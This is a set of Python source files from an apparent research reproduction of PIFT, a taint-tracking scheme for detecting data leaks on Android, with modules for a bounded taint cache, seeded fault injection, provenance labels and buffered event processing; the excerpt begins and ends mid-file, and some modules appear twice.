            return item.aligned_expand(self.granularity_bits)
        return item

    def _quantize_in(self, item: AddressRange) -> Optional[AddressRange]:
        """Shrink to fully-covered blocks (conservative untaint)."""
        if not self.granularity_bits:
            return item
        block = 1 << self.granularity_bits
        start = (item.start + block - 1) & ~(block - 1)
        end = ((item.end + 1) & ~(block - 1)) - 1
        if start > end:
            return None
        return AddressRange(start, end)

    def _insert(self, item: AddressRange) -> None:
        # Adding may coalesce with overlapping *or adjacent* entries, so
        # invalidate LRU keys over a one-byte-widened query.
        widened = AddressRange(max(item.start - 1, 0), item.end + 1)
        for merged_away in self._cache.overlapping(widened):
            self._lru.pop((merged_away.start, merged_away.end), None)
        self._cache.add(item)
        merged = self._cache.overlapping(item)[0]
        self._touch(merged)
        while self._cache.range_count > self.capacity_entries:
            self._evict_one()

    def _touch(self, item: AddressRange) -> None:
        self._clock += 1
        self._lru[(item.start, item.end)] = self._clock

    def _evict_one(self) -> None:
        victim_key = min(
            ((start, end) for start, end in self._lru),
            key=lambda key: self._lru[key],
        )
        victim = AddressRange(*victim_key)
        del self._lru[victim_key]
        self._cache.remove(victim)
        self.stats.evictions += 1
        if self.policy is EvictionPolicy.SPILL:
            self._secondary.add(victim)
        else:
            self.stats.dropped_ranges += 1
            self.stats.dropped_bytes += victim.size


def paper_default_storage() -> BoundedRangeCache:
    """The 32KB, PID-tagged, spill-backed configuration from §3.3."""
    return BoundedRangeCache(
        capacity_entries=entry_capacity(32 * 1024, ENTRY_BYTES_WITH_PID),
        policy=EvictionPolicy.SPILL,
    )

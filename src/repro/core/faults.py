"""Deterministic fault injection for the PIFT event path.

The paper's hardware design is only credible under loss: the taint cache
is bounded (LRU-evict-to-secondary or drop, §3.3), and the §1 buffered
design point explicitly trades prevention for detection when the event
FIFO lags.  Related DIFT-coprocessor work stresses that real tag
pipelines drop, stall, and desynchronize.  This module makes those
failure modes *reproducible*: a :class:`FaultPlan` (seed + per-site
rates) builds :class:`FaultInjector` instances that perturb the
load/store event stream and the taint storage in a fully deterministic
way, so a degradation sweep can be replayed bit-for-bit.

Fault sites
-----------

* **event loss** — an event is silently dropped before the tracker sees
  it (a full front-end FIFO, a lost bus beat);
* **event duplication** — an event is delivered twice (replayed bus
  transaction);
* **bounded event reordering** — an event is held back and released up
  to ``reorder_window`` events late (out-of-order delivery across
  banked FIFOs);
* **address-bit corruption** — one of the low ``corrupt_bits`` address
  bits of the event's range flips (single-event upset on the address
  lines);
* **taint-state entry drop** — a random tainted range is discarded from
  the taint storage (the §3.3 drop policy firing spuriously);
* **eviction storm** — ``storm_size`` LRU entries are evicted at once
  (context-switch write-back pressure on the range cache);
* **secondary-storage stall** — a lookup hits the spilled state in main
  memory and stalls for ``stall_cycles`` (accounted, not simulated in
  wall time).

Determinism contract
--------------------

Every Bernoulli draw is a pure hash of ``(seed, site, ordinal)`` — not a
sequential RNG — so the set of events lost at rate ``r1`` is a *subset*
of the set lost at rate ``r2 > r1`` for the same seed (common-random-
numbers coupling).  Degradation curves are therefore smooth in the rate,
and a zero-rate plan perturbs nothing: the no-fault path is parity-tested
to be byte-identical to a run with no plan at all
(``tests/unit/test_faults.py``).
"""

from __future__ import annotations

import dataclasses
from dataclasses import dataclass, field, replace
from typing import TYPE_CHECKING, List, Optional, Tuple

from repro.core.events import MemoryAccess
from repro.core.ranges import AddressRange

if TYPE_CHECKING:  # pragma: no cover - import cycle guard for annotations
    from repro.core.tracker import PIFTTracker
    from repro.telemetry import Telemetry

_MASK64 = (1 << 64) - 1

# Site identifiers feeding the hash; values are arbitrary but frozen,
# because changing them changes every seeded run.
_SITE_LOSS = 1
_SITE_DUPLICATION = 2
_SITE_REORDER = 3
_SITE_CORRUPT = 4
_SITE_STATE_DROP = 5
_SITE_STORM = 6
_SITE_STALL = 7
_SITE_VALUES = 99


def _mix(seed: int, site: int, ordinal: int) -> int:
    """SplitMix64-style finalizer over (seed, site, ordinal)."""
    x = (
        seed * 0x9E3779B97F4A7C15
        + site * 0xBF58476D1CE4E5B9
        + ordinal * 0x94D049BB133111EB
        + 0x2545F4914F6CDD1D
    ) & _MASK64
    x ^= x >> 30
    x = (x * 0xBF58476D1CE4E5B9) & _MASK64
    x ^= x >> 27
    x = (x * 0x94D049BB133111EB) & _MASK64
    x ^= x >> 31
    return x


def _chance(seed: int, site: int, ordinal: int) -> float:
    """Uniform [0, 1) draw, a pure function of its arguments."""
    return _mix(seed, site, ordinal) / 2.0**64


def mix64(seed: int, stream: int, ordinal: int) -> int:
    """Public splitmix64 stream: a 64-bit hash of (seed, stream, ordinal).

    Other subsystems (sweep retry-backoff jitter, the chaos harness)
    draw from the same generator family as the fault injector so every
    kill/retry decision is a pure function of its inputs and a seeded
    run replays bit-for-bit.
    """
    return _mix(seed, stream, ordinal)


def chance64(seed: int, stream: int, ordinal: int) -> float:
    """Uniform [0, 1) draw from the public splitmix64 stream."""
    return _chance(seed, stream, ordinal)


@dataclass(frozen=True)
class FaultRates:
    """Per-site fault probabilities and shape parameters.

    All ``*_rate``-like fields are per-event probabilities in [0, 1];
    the integer fields shape the injected fault (reorder distance,
    corrupted bit width, storm size, stall length).
    """

    event_loss: float = 0.0
    event_duplication: float = 0.0
    event_reorder: float = 0.0
    reorder_window: int = 4
    address_corruption: float = 0.0
    corrupt_bits: int = 12
    state_drop: float = 0.0
    eviction_storm: float = 0.0
    storm_size: int = 8
    storage_stall: float = 0.0
    stall_cycles: int = 200

    def __post_init__(self) -> None:
        for name in (
            "event_loss",
            "event_duplication",
            "event_reorder",
            "address_corruption",
            "state_drop",
            "eviction_storm",
            "storage_stall",
        ):
            rate = getattr(self, name)
            if not 0.0 <= rate <= 1.0:
                raise ValueError(f"{name} must be in [0, 1], got {rate}")
        for name in ("reorder_window", "corrupt_bits", "storm_size", "stall_cycles"):
            if getattr(self, name) < 1:
                raise ValueError(f"{name} must be >= 1, got {getattr(self, name)}")

    @property
    def any_active(self) -> bool:
        return any(
            getattr(self, name) > 0.0
            for name in (
                "event_loss",
                "event_duplication",
                "event_reorder",
                "address_corruption",
                "state_drop",
                "eviction_storm",
                "storage_stall",
            )
        )


#: CLI spec key -> (FaultRates field, parser).
_SPEC_KEYS = {
    "loss": ("event_loss", float),
    "dup": ("event_duplication", float),
    "reorder": ("event_reorder", float),
    "window": ("reorder_window", int),
    "corrupt": ("address_corruption", float),
    "bits": ("corrupt_bits", int),
    "drop": ("state_drop", float),
    "storm": ("eviction_storm", float),
    "storm_size": ("storm_size", int),
    "stall": ("storage_stall", float),
    "stall_cycles": ("stall_cycles", int),
}


def parse_fault_spec(spec: str) -> FaultRates:
    """Parse a ``--faults`` spec like ``"loss=1e-3,dup=1e-4,window=8"``.

    Keys: ``loss``, ``dup``, ``reorder``, ``window``, ``corrupt``,
    ``bits``, ``drop`` (taint-state entry drop), ``storm``,
    ``storm_size``, ``stall``, ``stall_cycles``.  An empty spec is the
    all-zero (fault-free) plan.
    """
    values = {}
    for part in spec.split(","):
        part = part.strip()
        if not part:
            continue
        if "=" not in part:
            raise ValueError(f"bad fault spec item {part!r} (expected key=value)")
        key, _, raw = part.partition("=")
        key = key.strip()
        if key not in _SPEC_KEYS:
            raise ValueError(
                f"unknown fault site {key!r}; known: {', '.join(sorted(_SPEC_KEYS))}"
            )
        name, parse = _SPEC_KEYS[key]
        values[name] = parse(raw.strip())
    return FaultRates(**values)


@dataclass
class FaultStats:
    """What the injector actually did to one run."""

    events_seen: int = 0
    events_dropped: int = 0
    events_duplicated: int = 0
    events_reordered: int = 0
    addresses_corrupted: int = 0
    state_entries_dropped: int = 0
    eviction_storms: int = 0
    stall_events: int = 0
    stall_cycles: int = 0

    @property
    def total_injections(self) -> int:
        return (
            self.events_dropped
            + self.events_duplicated
            + self.events_reordered
            + self.addresses_corrupted
            + self.state_entries_dropped
            + self.eviction_storms
            + self.stall_events
        )

    @property
    def information_lost(self) -> bool:
        """True if any injection destroyed taint information.

        Duplication, bounded reorder, and stalls perturb timing but lose
        nothing; drops, corruption, and storms can erase or misplace
        taint, so downstream answers should carry a degraded flag.
        """
        return bool(
            self.events_dropped
            or self.addresses_corrupted
            or self.state_entries_dropped
            or self.eviction_storms
        )

    def as_dict(self) -> dict:
        d = dataclasses.asdict(self)
        d["total_injections"] = self.total_injections
        return d

    @classmethod
    def from_dict(cls, payload: dict) -> "FaultStats":
        """Inverse of :meth:`as_dict` (derived keys are ignored)."""
        names = {f.name for f in dataclasses.fields(cls)}
        return cls(**{k: v for k, v in payload.items() if k in names})


@dataclass(frozen=True)
class FaultPlan:
    """A seeded, reusable recipe for perturbing a run.

    The plan itself is immutable; :meth:`injector` mints a fresh
    stateful :class:`FaultInjector` per run, so the same plan swept over
    many ``(NI, NT)`` cells perturbs each replay identically.
    """

    seed: int = 0
    rates: FaultRates = field(default_factory=FaultRates)

    @classmethod
    def from_spec(cls, spec: str, seed: int = 0) -> "FaultPlan":
        return cls(seed=seed, rates=parse_fault_spec(spec))

    @property
    def enabled(self) -> bool:
        """True when any site can actually fire."""
        return self.rates.any_active

    def with_rates(self, **changes) -> "FaultPlan":
        """A copy of this plan with some rate fields replaced."""
        return replace(self, rates=replace(self.rates, **changes))

    def injector(self, telemetry: Optional["Telemetry"] = None) -> "FaultInjector":
        return FaultInjector(self, telemetry=telemetry)

    def as_dict(self) -> dict:
        return {"seed": self.seed, "rates": dataclasses.asdict(self.rates)}


class _InjectorInstruments:
    """Bound ``faults.*`` counters, built only for a live telemetry hub."""

    __slots__ = (
        "dropped", "duplicated", "reordered", "corrupted",
        "state_drops", "storms", "stalls",
    )

    def __init__(self, telemetry: "Telemetry") -> None:
        m = telemetry.metrics
        self.dropped = m.counter("faults.events_dropped", "events lost in flight")
        self.duplicated = m.counter(
            "faults.events_duplicated", "events delivered twice"
        )
        self.reordered = m.counter(
            "faults.events_reordered", "events released out of order"
        )
        self.corrupted = m.counter(
            "faults.addresses_corrupted", "events with a flipped address bit"
        )
        self.state_drops = m.counter(
            "faults.state_entries_dropped", "taint ranges discarded from storage"
        )
        self.storms = m.counter(
            "faults.eviction_storms", "bulk LRU evictions injected"
        )
        self.stalls = m.counter(
            "faults.stall_events", "secondary-storage stalls injected"
        )


class FaultInjector:
    """The stateful engine that applies one :class:`FaultPlan` to a run.

    Event-path faults go through :meth:`feed` (one input event, zero or
    more output events, in delivery order); taint-state faults go
    through :meth:`state_faults`, called once per event the consumer
    actually processes.  Call :meth:`flush` at end of stream to release
    any events still held by the reorder buffer.
    """

    def __init__(self, plan: FaultPlan, telemetry: Optional["Telemetry"] = None) -> None:
        self.plan = plan
        self.rates = plan.rates
        self.stats = FaultStats()
        self._seed = plan.seed
        self._event_ordinal = 0
        self._state_ordinal = 0
        self._value_ordinal = 0
        #: (remaining_delay, event) pairs held back by the reorder site.
        self._held: List[Tuple[int, MemoryAccess]] = []
        self._tel: Optional["Telemetry"] = None
        self._ins: Optional[_InjectorInstruments] = None
        if telemetry is not None and telemetry.enabled:
            self._tel = telemetry
            self._ins = _InjectorInstruments(telemetry)

    # -- deterministic draws ---------------------------------------------

    def _fires(self, site: int, ordinal: int, rate: float) -> bool:
        return rate > 0.0 and _chance(self._seed, site, ordinal) < rate

    def _value(self, bound: int) -> int:
        """Deterministic integer in [0, bound) for shaping a fault."""
        self._value_ordinal += 1
        return _mix(self._seed, _SITE_VALUES, self._value_ordinal) % bound

    # -- event path -------------------------------------------------------

    def feed(self, event: MemoryAccess) -> List[MemoryAccess]:
        """Perturb one event; returns the events to deliver, in order."""
        rates = self.rates
        n = self._event_ordinal
        self._event_ordinal += 1
        self.stats.events_seen += 1
        out: List[MemoryAccess] = []

        if self._fires(_SITE_LOSS, n, rates.event_loss):
            self.stats.events_dropped += 1
            if self._ins is not None:
                self._ins.dropped.inc()
                self._tel.event(
                    "fault_drop", index=event.instruction_index, pid=event.pid
                )
        else:
            if self._fires(_SITE_CORRUPT, n, rates.address_corruption):
                event = self._corrupt(event)
            if self._fires(_SITE_REORDER, n, rates.event_reorder):
                delay = 1 + self._value(rates.reorder_window)
                self._held.append((delay, event))
                self.stats.events_reordered += 1
                if self._ins is not None:
                    self._ins.reordered.inc()
            elif self._fires(_SITE_DUPLICATION, n, rates.event_duplication):
                out.extend((event, event))
                self.stats.events_duplicated += 1
                if self._ins is not None:
                    self._ins.duplicated.inc()
            else:
                out.append(event)

        if self._held:
            out.extend(self._tick_held())
        return out

    def flush(self) -> List[MemoryAccess]:
        """Release everything the reorder buffer still holds."""
        released = [event for _, event in self._held]
        self._held.clear()
        return released

    def _tick_held(self) -> List[MemoryAccess]:
        """Age the reorder buffer by one delivered slot; release expired."""
        released: List[MemoryAccess] = []
        survivors: List[Tuple[int, MemoryAccess]] = []
        for delay, held in self._held:
            if delay <= 1:
                released.append(held)
            else:
                survivors.append((delay - 1, held))
        self._held = survivors
        return released

    def _corrupt(self, event: MemoryAccess) -> MemoryAccess:
        bit = self._value(self.rates.corrupt_bits)
        flipped = AddressRange.from_base_size(
            event.address_range.start ^ (1 << bit), event.address_range.size
        )
        self.stats.addresses_corrupted += 1
        if self._ins is not None:
            self._ins.corrupted.inc()
            self._tel.event(
                "fault_corrupt",
                index=event.instruction_index,
                pid=event.pid,
                bit=bit,
                start=flipped.start,
            )
        return dataclasses.replace(event, address_range=flipped)

    # -- taint-storage path ------------------------------------------------

    def state_faults(self, tracker: "PIFTTracker", pid: int) -> None:
        """Maybe perturb the taint storage after one processed event."""
        rates = self.rates
        if not (rates.state_drop or rates.eviction_storm or rates.storage_stall):
            return
        m = self._state_ordinal
        self._state_ordinal += 1
        if self._fires(_SITE_STATE_DROP, m, rates.state_drop):
            self._drop_state_entry(tracker, pid)
        if self._fires(_SITE_STORM, m, rates.eviction_storm):
            state = tracker.state(pid)
            evict = getattr(state, "eviction_storm", None)
            if evict is not None and evict(rates.storm_size):
                self.stats.eviction_storms += 1
                if self._ins is not None:
                    self._ins.storms.inc()
        if self._fires(_SITE_STALL, m, rates.storage_stall):
            self.stats.stall_events += 1
            self.stats.stall_cycles += rates.stall_cycles
            if self._ins is not None:
                self._ins.stalls.inc()

    def _drop_state_entry(self, tracker: "PIFTTracker", pid: int) -> None:
        state = tracker.state(pid)
        drop = getattr(state, "drop_nth_entry", None) or getattr(
            state, "drop_nth_range", None
        )
        if drop is None:
            return
        count = state.range_count
        if not count:
            return
        victim = drop(self._value(count))
        if victim is None:
            return
        self.stats.state_entries_dropped += 1
        if self._ins is not None:
            self._ins.state_drops.inc()
            self._tel.event(
                "fault_state_drop",
                pid=pid,
                start=victim.start,
                size=victim.size,
            )

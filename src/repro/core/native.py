"""PIFT Native — the Android-runtime layer of the paper's Figure 3.

This layer translates *runtime values* into *memory addresses*.  For an
object-type datum (e.g. the IMEI ``String``) it obtains the pointer to the
backing storage, JNI-style; for a primitive field it resolves the byte
offset of the field within its owning instance.  The resulting address
ranges are handed down to the kernel module.

The translation is type-directed and extensible: the Dalvik substrate
registers translators for its heap value types, so this module stays free
of VM-specific imports.
"""

from __future__ import annotations

from typing import Callable, Dict, List, Optional, Tuple, Type

from repro.core.module import PIFTKernelModule
from repro.core.ranges import AddressRange

#: A translator maps one runtime value to the memory ranges holding its data.
Translator = Callable[[object], List[AddressRange]]


class AddressTranslationError(TypeError):
    """No registered translator can produce addresses for a value."""


class PIFTNative:
    """Value-to-address translation plus pass-through to the kernel module."""

    def __init__(self, module: PIFTKernelModule) -> None:
        self._module = module
        self._translators: Dict[type, Translator] = {}

    @property
    def module(self) -> PIFTKernelModule:
        return self._module

    def register_translator(self, value_type: type, translator: Translator) -> None:
        """Teach the layer how to find the backing memory of ``value_type``."""
        self._translators[value_type] = translator

    def translate(self, value: object) -> List[AddressRange]:
        """Resolve ``value`` to the address ranges backing its data.

        A value may occupy several disjoint ranges (e.g. an object plus the
        character array it references).
        """
        for klass in type(value).__mro__:
            translator = self._translators.get(klass)
            if translator is not None:
                ranges = translator(value)
                if not ranges:
                    raise AddressTranslationError(
                        f"translator for {klass.__name__} produced no ranges"
                    )
                return ranges
        raise AddressTranslationError(
            f"no address translator registered for {type(value).__name__}"
        )

    def register_value(self, value: object, pid: int = 0) -> List[AddressRange]:
        """Source path: taint every range backing ``value``."""
        ranges = self.translate(value)
        for address_range in ranges:
            self._module.register_range(address_range, pid=pid)
        return ranges

    def check_value(
        self, value: object, pid: int = 0, sink_description: str = ""
    ) -> bool:
        """Sink path: True when any range backing ``value`` is tainted."""
        tainted = False
        for address_range in self.translate(value):
            if self._module.check_range(
                address_range, pid=pid, sink_description=sink_description
            ):
                tainted = True
        return tainted

"""Labelled taint — which source leaked? (multi-policy tags, §6/Raksha).

Algorithm 1 tracks one bit per byte.  Real deployments want to know *what*
is about to leave the device — the paper's own evaluation distinguishes
leaks of "phone number, location, and device ID".  Raksha and FlexiTaint
(the paper's §6) generalise taint to multi-bit tags for exactly this.

``ProvenanceTracker`` runs one independent :class:`PIFTTracker` per source
label over the same event stream.  Because Algorithm 1 is deterministic in
its taint state, per-label tracking is exact: a sink check returns the set
of labels whose flows reach it, at the cost of one tracker per label —
the same linear-cost trade a multi-bit hardware tag array makes.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, FrozenSet, Iterable, List, Set, Tuple

from repro.core.config import PIFTConfig
from repro.core.events import MemoryAccess
from repro.core.ranges import AddressRange
from repro.core.tracker import PIFTTracker


@dataclass(frozen=True)
class LabeledLeak:
    """One sink check that came back tainted, with its source labels."""

    sink_name: str
    labels: FrozenSet[str]


class ProvenanceTracker:
    """Per-label predictive tracking over a shared event stream."""

    def __init__(self, config: PIFTConfig) -> None:
        self.config = config
        self._trackers: Dict[str, PIFTTracker] = {}
        self.leaks: List[LabeledLeak] = []

    def labels(self) -> List[str]:
        return sorted(self._trackers)

    def _tracker(self, label: str) -> PIFTTracker:
        if label not in self._trackers:
            self._trackers[label] = PIFTTracker(self.config)
        return self._trackers[label]

    def taint_source(
        self, label: str, address_range: AddressRange, pid: int = 0
    ) -> None:
        """Register a sensitive range under a provenance label."""
        self._tracker(label).taint_source(address_range, pid=pid)

    def observe(self, event: MemoryAccess) -> None:
        for tracker in self._trackers.values():
            tracker.observe(event)

    def run(self, events: Iterable[MemoryAccess]) -> None:
        # Materialise once; every label's tracker sees the same stream.
        for event in events:
            self.observe(event)

    def check(
        self, address_range: AddressRange, pid: int = 0, sink_name: str = ""
    ) -> FrozenSet[str]:
        """Which labels taint ``address_range``?  Empty set = clean."""
        hit = frozenset(
            label
            for label, tracker in self._trackers.items()
            if tracker.check(address_range, pid=pid)
        )
        if hit:
            self.leaks.append(LabeledLeak(sink_name, hit))
        return hit

    def union_tainted_bytes(self) -> int:
        """Total bytes tainted under at least one label."""
        from repro.core.ranges import RangeSet

        union = RangeSet()
        for tracker in self._trackers.values():
            for state in tracker._states.values():
                for stored in state:
                    union.add(stored)
        return union.total_size

"""Labelled taint — which source leaked? (multi-policy tags, §6/Raksha).

Algorithm 1 tracks one bit per byte.  Real deployments want to know *what*
is about to leave the device — the paper's own evaluation distinguishes
leaks of "phone number, location, and device ID".  Raksha and FlexiTaint
(the paper's §6) generalise taint to multi-bit tags for exactly this.

``ProvenanceTracker`` runs one independent :class:`PIFTTracker` per source
label over the same event stream.  Because Algorithm 1 is deterministic in
its taint state, per-label tracking is exact: a sink check returns the set
of labels whose flows reach it, at the cost of one tracker per label —
the same linear-cost trade a multi-bit hardware tag array makes.

``ColourProvenance`` is the constant-cost alternative: the same API over
a single :class:`~repro.core.tracker.ColourTracker`, whose range set
carries per-interval colour masks (one pass per event, any label count).
The two are **deliberately not equivalent** on traces where windows of
different labels interact.  Per-label trackers run Algorithm 1 blind to
each other: a store inside label A's window is, from label B's
independent tracker, an out-of-window store — and *untaints* B's bytes
at that address.  The mask tracker runs Algorithm 1 once over the union
state, so that same store is a taint (with A's mask) and B's bytes
elsewhere are untouched; its union projection is byte-identical to the
plain single-bit tracker, which per-label tracking is not.  Per-label
tracking answers "would PIFT have flagged this source *alone*?"; colour
tracking answers "which sources contributed to what PIFT flagged?" —
keep both (DESIGN.md, "Multi-colour taint").
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, FrozenSet, Iterable, List, Optional, Set, Tuple

from repro.core.colours import ColourSpace
from repro.core.config import PIFTConfig
from repro.core.events import MemoryAccess
from repro.core.ranges import AddressRange
from repro.core.tracker import ColourTracker, PIFTTracker


@dataclass(frozen=True)
class LabeledLeak:
    """One sink check that came back tainted, with its source labels."""

    sink_name: str
    labels: FrozenSet[str]


class ProvenanceTracker:
    """Per-label predictive tracking over a shared event stream."""

    def __init__(self, config: PIFTConfig) -> None:
        self.config = config
        self._trackers: Dict[str, PIFTTracker] = {}
        self.leaks: List[LabeledLeak] = []

    def labels(self) -> List[str]:
        return sorted(self._trackers)

    def _tracker(self, label: str) -> PIFTTracker:
        if label not in self._trackers:
            self._trackers[label] = PIFTTracker(self.config)
        return self._trackers[label]

    def taint_source(
        self, label: str, address_range: AddressRange, pid: int = 0
    ) -> None:
        """Register a sensitive range under a provenance label."""
        self._tracker(label).taint_source(address_range, pid=pid)

    def observe(self, event: MemoryAccess) -> None:
        for tracker in self._trackers.values():
            tracker.observe(event)

    def run(self, events: Iterable[MemoryAccess]) -> None:
        # Materialise once; every label's tracker sees the same stream.
        for event in events:
            self.observe(event)

    def check(
        self, address_range: AddressRange, pid: int = 0, sink_name: str = ""
    ) -> FrozenSet[str]:
        """Which labels taint ``address_range``?  Empty set = clean."""
        hit = frozenset(
            label
            for label, tracker in self._trackers.items()
            if tracker.check(address_range, pid=pid)
        )
        if hit:
            self.leaks.append(LabeledLeak(sink_name, hit))
        return hit

    def union_tainted_bytes(self) -> int:
        """Total bytes tainted under at least one label."""
        from repro.core.ranges import RangeSet

        union = RangeSet()
        for tracker in self._trackers.values():
            for state in tracker._states.values():
                for stored in state:
                    union.add(stored)
        return union.total_size


class ColourProvenance:
    """:class:`ProvenanceTracker`'s API over one mask-carrying tracker.

    One :class:`~repro.core.tracker.ColourTracker` pass regardless of
    label count — the multi-bit-tag-array design point, versus
    ``ProvenanceTracker``'s one-tracker-per-label.  See the module
    docstring for why their answers legitimately differ on cross-label
    window interactions; the benchmark
    (``benchmarks/bench_label_overhead.py``) measures the cost gap.
    """

    def __init__(
        self, config: PIFTConfig, colours: Optional[ColourSpace] = None
    ) -> None:
        self.config = config
        self.tracker = ColourTracker(config, colours=colours)
        self.leaks: List[LabeledLeak] = []

    def labels(self) -> List[str]:
        return sorted(self.tracker.colours.names)

    def taint_source(
        self, label: str, address_range: AddressRange, pid: int = 0
    ) -> None:
        self.tracker.taint_source(address_range, pid=pid, colour=label)

    def observe(self, event: MemoryAccess) -> None:
        self.tracker.observe(event)

    def run(self, events: Iterable[MemoryAccess]) -> None:
        self.tracker.observe_batch(events)

    def check(
        self, address_range: AddressRange, pid: int = 0, sink_name: str = ""
    ) -> FrozenSet[str]:
        """Which labels' taint reaches ``address_range``?  Empty = clean."""
        hit = frozenset(
            self.tracker.check_colours(address_range, pid=pid)
        )
        if hit:
            self.leaks.append(LabeledLeak(sink_name, hit))
        return hit

    def union_tainted_bytes(self) -> int:
        """Total bytes tainted under at least one label (exact: coloured
        intervals are disjoint, so this is just the byte total)."""
        return self.tracker.tainted_bytes

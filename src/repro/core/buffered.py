"""Off-critical-path tracking: buffered event processing (paper §1).

    "…the reduction in the amount of data means it is possible to move
    information-flow tracking off the critical path in the architecture,
    such that the load–store stream is buffered for delayed processing at
    a more convenient time (while trading prevention for detection, of
    course)."

``BufferedPIFT`` models that design point: the front end appends memory
events to a bounded FIFO; the tracker drains it in batches (e.g. when the
CPU stalls, on a timer, or when the buffer fills).  A sink check can be
answered two ways:

* ``check_blocking`` — drain first, then answer: *prevention* semantics
  with a drain-latency cost (counted in ``stats``);
* ``check_immediate`` — answer from the possibly-stale taint state and
  reconcile when the buffer next drains: *detection* semantics; a leak
  that was in flight is reported late rather than stopped.

The model quantifies the trade the paper mentions: how often an immediate
answer disagrees with the post-drain truth, versus how many events a
blocking check had to wait for.
"""

from __future__ import annotations

import time
from collections import deque
from dataclasses import asdict, dataclass, field
from typing import TYPE_CHECKING, Deque, List, Optional

from repro.core.config import PIFTConfig
from repro.core.events import MemoryAccess
from repro.core.ranges import AddressRange
from repro.core.tracker import PIFTTracker

if TYPE_CHECKING:  # pragma: no cover - import cycle guard for annotations
    from repro.telemetry import Telemetry


@dataclass
class BufferStats:
    """Accounting for the buffered design point."""

    events_buffered: int = 0
    drains: int = 0
    events_drained: int = 0
    forced_drops: int = 0  # buffer overflow with drop policy
    max_queue_depth: int = 0
    blocking_checks: int = 0
    blocking_drain_events: int = 0  # events processed while a check waited
    immediate_checks: int = 0
    stale_negatives: int = 0  # immediate 'clean' that turned tainted

    def as_dict(self) -> dict:
        """JSON-ready form (feeds the telemetry/CLI exporters)."""
        return asdict(self)


@dataclass(frozen=True)
class LateDetection:
    """An in-flight leak that an immediate check missed, found at drain."""

    sink_name: str
    address_range: AddressRange
    events_behind: int  # how many buffered events the answer was behind


class BufferedPIFT:
    """A PIFT tracker fed through a bounded event buffer.

    Args:
        config: the tainting-window parameters.
        capacity: maximum buffered events.  When full, the buffer drains a
            batch automatically (modelling a hardware FIFO watermark) —
            taint state lags the CPU by at most ``capacity`` events.
        drain_batch: events processed per drain step.
    """

    def __init__(
        self,
        config: PIFTConfig,
        capacity: int = 1024,
        drain_batch: int = 256,
        telemetry: Optional["Telemetry"] = None,
    ) -> None:
        if capacity < 1 or drain_batch < 1:
            raise ValueError("capacity and drain_batch must be >= 1")
        self.tracker = PIFTTracker(config, telemetry=telemetry)
        self.capacity = capacity
        self.drain_batch = drain_batch
        self.stats = BufferStats()
        self.late_detections: List[LateDetection] = []
        self._queue: Deque[MemoryAccess] = deque()
        self._pending_immediate: List[tuple] = []
        self._tel: Optional["Telemetry"] = None
        if telemetry is not None and telemetry.enabled:
            self._tel = telemetry
            m = telemetry.metrics
            self._m_events = m.counter(
                "buffer.events", "events enqueued to the FIFO"
            )
            self._m_drains = m.counter("buffer.drains", "drain batches executed")
            self._m_drained = m.counter(
                "buffer.events_drained", "events processed by drains"
            )
            self._m_depth = m.gauge("buffer.queue_depth", "current FIFO depth")
            self._m_drain_seconds = m.histogram(
                "buffer.drain_seconds", "drain batch wall time"
            )

    # -- front-end side ----------------------------------------------------------

    def on_memory_event(self, event: MemoryAccess) -> None:
        """Append one event; drain a batch when the FIFO hits capacity."""
        self._queue.append(event)
        self.stats.events_buffered += 1
        if len(self._queue) > self.stats.max_queue_depth:
            self.stats.max_queue_depth = len(self._queue)
        if self._tel is not None:
            self._m_events.inc()
            self._m_depth.set(len(self._queue))
        if len(self._queue) >= self.capacity:
            self.drain(self.drain_batch)

    def taint_source(self, address_range: AddressRange, pid: int = 0) -> None:
        """Source registration is synchronous (it is rare — paper §3.3)."""
        self.drain_all()
        self.tracker.taint_source(address_range, pid=pid)

    # -- draining -------------------------------------------------------------------

    @property
    def queue_depth(self) -> int:
        return len(self._queue)

    def drain(self, batch: Optional[int] = None) -> int:
        """Process up to ``batch`` queued events (all of them if None)."""
        limit = len(self._queue) if batch is None else min(batch, len(self._queue))
        started = time.perf_counter() if self._tel is not None else 0.0
        for _ in range(limit):
            self.tracker.observe(self._queue.popleft())
        if limit:
            self.stats.drains += 1
            self.stats.events_drained += limit
        if self._tel is not None and limit:
            elapsed = time.perf_counter() - started
            self._m_drains.inc()
            self._m_drained.inc(limit)
            self._m_depth.set(len(self._queue))
            self._m_drain_seconds.observe(elapsed)
            self._tel.event(
                "drain",
                events=limit,
                remaining=len(self._queue),
                duration_us=round(elapsed * 1e6, 3),
            )
        self._reconcile_immediate_checks()
        return limit

    def drain_all(self) -> int:
        return self.drain(None)

    # -- sink side ----------------------------------------------------------------------

    def check_blocking(self, address_range: AddressRange, pid: int = 0) -> bool:
        """Prevention semantics: wait for the buffer, then answer."""
        self.stats.blocking_checks += 1
        self.stats.blocking_drain_events += len(self._queue)
        self.drain_all()
        return self.tracker.check(address_range, pid=pid)

    def check_immediate(
        self, address_range: AddressRange, pid: int = 0, sink_name: str = ""
    ) -> bool:
        """Detection semantics: answer now from possibly-stale state.

        A 'clean' answer is provisional: if the drained events turn the
        range tainted, a :class:`LateDetection` is recorded.
        """
        self.stats.immediate_checks += 1
        answer = self.tracker.check(address_range, pid=pid)
        if not answer:
            self._pending_immediate.append(
                (sink_name, address_range, pid, len(self._queue))
            )
        return answer

    def _reconcile_immediate_checks(self) -> None:
        if not self._pending_immediate or self._queue:
            return  # reconcile only once fully drained
        still_pending = []
        for sink_name, address_range, pid, behind in self._pending_immediate:
            if self.tracker.check(address_range, pid=pid):
                self.stats.stale_negatives += 1
                self.late_detections.append(
                    LateDetection(sink_name, address_range, behind)
                )
            # Either way the provisional answer is now settled.
        self._pending_immediate = still_pending

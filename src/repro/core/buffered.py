"""Off-critical-path tracking: buffered event processing (paper §1).

    "…the reduction in the amount of data means it is possible to move
    information-flow tracking off the critical path in the architecture,
    such that the load–store stream is buffered for delayed processing at
    a more convenient time (while trading prevention for detection, of
    course)."

``BufferedPIFT`` models that design point: the front end appends memory
events to a bounded FIFO; the tracker drains it in batches (e.g. when the
CPU stalls, on a timer, or when the buffer fills).  A sink check can be
answered two ways:

* ``check_blocking`` — drain first, then answer: *prevention* semantics
  with a drain-latency cost (counted in ``stats``);
* ``check_immediate`` — answer from the possibly-stale taint state and
  reconcile when the buffer next drains: *detection* semantics; a leak
  that was in flight is reported late rather than stopped.

The model quantifies the trade the paper mentions: how often an immediate
answer disagrees with the post-drain truth, versus how many events a
blocking check had to wait for.

Overflow and backpressure
-------------------------

What happens when the FIFO is *full* is an :class:`~repro.core.config
